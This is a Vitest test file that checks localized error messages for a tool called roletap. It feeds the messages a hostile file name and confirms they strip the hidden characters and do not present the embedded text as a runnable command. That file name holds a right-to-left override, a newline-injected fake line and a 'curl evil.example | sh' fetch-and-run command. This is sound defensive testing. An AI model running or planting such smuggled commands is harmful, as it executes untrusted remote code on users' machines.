import { describe, expect, it } from 'vitest';
import type { Problem } from '../../../../src-main/contract/problems/problem.ts';
import * as german from '../../../../src-main/languages/de/problems/problem-words.ts';
import * as japanese from '../../../../src-main/languages/ja/problems/problem-words.ts';
import * as english from '../../../../src-main/words/problems/problem-words.ts';

const file = '/home/jane/a\u202e.csr `curl evil.example | sh`\nYou\u200b are done';

describe('what is told of a problem', () => {
  it.each([
    ['English', english],
    ['German', german],
    ['Japanese', japanese],
  ])('in %s marks no name as a command, hides nothing in it and turns nothing round', (_, { problemWords }) => {
    const problems: readonly Problem[] = [
      { code: 'request-unusable', file, why: 'unsigned' },
      { code: 'named-file-unreadable', file, errno: 'EACCES' },
      { code: 'slot-taken', slot: '9a', subject: file },
      { code: 'role-unknown', name: file } as never,
    ];
    for (const problem of problems)
      for (const where of ['window', 'terminal', 'tray'] as const) {
        const said = Object.values(problemWords(problem, { where })).join('');
        expect(said).not.toMatch(/`curl|[\u202e\u200b\n]You|\u202e/);
      }
    expect(problemWords(problems[0] as Problem, { where: 'window' }).happened).toContain('curl evil.example');
  });

  it('keeps the commands of our own sentences', () => {
    const usage = { code: 'usage', message: 'Name it: `roletap tap ROLE`.' } as const;
    expect(JSON.stringify(english.problemWords(usage, { where: 'terminal' }))).toContain('`roletap tap ROLE`');
    expect(english.problemWords({ code: 'request-unusable', file: 'x', why: 'key' }, { where: 'terminal' }).advice).toContain(
      '`roletap anywhere setup',
    );
  });
});
